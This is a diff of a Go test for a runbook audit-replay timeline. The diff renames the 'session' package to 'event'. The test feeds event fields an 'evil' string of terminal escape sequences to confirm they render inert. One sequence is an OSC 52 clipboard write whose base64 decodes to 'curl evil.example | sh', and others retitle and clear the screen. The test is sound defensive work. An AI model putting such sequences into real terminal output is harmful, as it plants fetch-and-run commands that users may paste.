@@ -5,7 +5,7 @@ import (
 	"testing"
 
 	"runway/runbook/audit"
-	"runway/runbook/session"
+	"runway/runbook/event"
 	"runway/ui/inert"
 )
 
@@ -20,13 +20,13 @@ const evil = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\a\x1b]0;pwned\a\x1b[2J\
 // screen keeps its size.
 func TestReplayShowsOutsideTextInert(t *testing.T) {
 	g := &gen{at: t0}
-	g.emit(session.KindSessionOpened, "", "", map[string]string{"operator": "alice" + evil, "host": "db1" + evil}, 0)
-	g.emit(session.KindPhaseStarted, "prep", "", nil, 0)
-	g.emit(session.KindItemStarted, "prep", "target-up", session.StartedPayload{Kind: "command", Attempt: 1}, 0)
-	g.emit(session.KindItemFailed, "prep", "target-up", session.ResultPayload{Attempt: 1, Summary: "exit 1" + evil, Output: "out" + evil, Critical: true}, 0)
-	g.emit(session.KindStopTriggered, "prep", "target-up", session.StopPayload{Reason: "failed" + evil, Choices: []string{"retry"}}, 0)
-	g.emit(session.KindNote, "", "", session.NotePayload{Text: "note" + evil}, 0)
-	g.emit(session.KindItemStarted, "prep"+evil, "x"+evil, nil, 0)
+	g.emit(event.KindSessionOpened, "", "", map[string]string{"operator": "alice" + evil, "host": "db1" + evil}, 0)
+	g.emit(event.KindPhaseStarted, "prep", "", nil, 0)
+	g.emit(event.KindItemStarted, "prep", "target-up", event.StartedPayload{Kind: "command", Attempt: 1}, 0)
+	g.emit(event.KindItemFailed, "prep", "target-up", event.ResultPayload{Attempt: 1, Summary: "exit 1" + evil, Output: "out" + evil, Critical: true}, 0)
+	g.emit(event.KindStopTriggered, "prep", "target-up", event.StopPayload{Reason: "failed" + evil, Choices: []string{"retry"}}, 0)
+	g.emit(event.KindNote, "", "", event.NotePayload{Text: "note" + evil}, 0)
+	g.emit(event.KindItemStarted, "prep"+evil, "x"+evil, nil, 0)
 	info := audit.SessionInfo{ID: "s1" + evil, Runbook: "orders-split", RunbookPath: "orders" + evil + ".yaml",
 		RunbookText: []byte(replayRunbook + "# " + evil + "\n\tend\n"), RunbookSHA: "0123456789abcdef", Started: t0}
 	tl := NewTimeline(parseRunbook(t), info, g.events)
